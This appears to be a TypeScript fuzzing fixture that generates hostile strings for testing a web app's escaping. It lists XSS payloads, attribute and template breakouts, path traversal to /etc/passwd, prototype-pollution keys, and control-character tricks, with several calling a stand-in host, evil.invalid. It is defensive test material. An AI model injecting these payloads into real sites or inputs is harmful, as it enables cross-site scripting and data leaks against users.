/** Texts that want to be more than text. Each that brings markup marks what it brings: `x-owned`, or `window.owned`. */
import fc from 'fast-check'

const MARKUP = [
  '<x-owned>',
  '</title><x-owned>',
  '</td></tr></table><x-owned>',
  '</textarea><x-owned>',
  '</script><script>owned=1</script>',
  '<script src="https://evil.invalid/x.js"></script>',
  '<img src=x onerror=owned=1>',
  '<img src="https://evil.invalid/x.png">',
  '<svg/onload=owned=1>',
  '<iframe srcdoc="<script>parent.owned=1</script>">',
  '<a href="javascript:owned=1">go</a>',
  '<style>body{background:url(https://evil.invalid/x)}</style>',
  '<link rel=stylesheet href=//evil.invalid/x.css>',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '<form action=https://evil.invalid/><input name=x>',
  '<math><mtext><x-owned></mtext></math>',
  '<template><x-owned></template>',
  '<!--<x-owned>-->',
  '<![CDATA[<x-owned>]]>',
]

/** What breaks out of an attribute, an address, a string or a template. */
const BREAKS = [
  '" onmouseover="owned=1" x="',
  "' onfocus='owned=1' autofocus x='",
  '`$' + '{owned=1}`',
  '{{nonce}}',
  '{{constructor.constructor("owned=1")()}}',
  "');owned=1;//",
  'javascript:owned=1',
  'data:text/html,<script>owned=1</script>',
  '//evil.invalid/',
  'https://evil.invalid/',
  '../../../../etc/passwd',
  '..',
  '.',
  '?x#y',
  '#/moves',
  '%3Cx-owned%3E',
  '%',
  '%00',
  '&lt;x-owned&gt;',
  '&#60;x-owned&#62;',
  '\\u003cx-owned\\u003e',
  '__proto__',
  'constructor',
  'toString',
  '\u2028',
  '\u202egnp.exe',
  '\ufeff',
  '\u0000',
  '\ud83d\ude00',
  '\ud800',
  'a\u0301'.repeat(20),
  '\x1b]0;owned\x07',
  '\r\n\r\n',
]

export const HOSTILE: readonly string[] = [...MARKUP, ...BREAKS, '', ' ', 'x'.repeat(5_000)]

/** Made of those, of what surrounds them in markup, and of anything else. */
const piece = fc.oneof(
  fc.constantFrom(...MARKUP, ...BREAKS),
  fc.constantFrom('<', '>', '"', "'", '&', '`', '/', '=', '\\', '\n', '\t', ' '),
  fc.string({ unit: 'binary', maxLength: 12 }),
)

export function hostileTexts(seed: number, count: number): string[] {
  const made = fc.array(piece, { minLength: 1, maxLength: 5 }).map((pieces) => pieces.join(''))
  return [...HOSTILE, ...fc.sample(made, { seed, numRuns: count })]
}
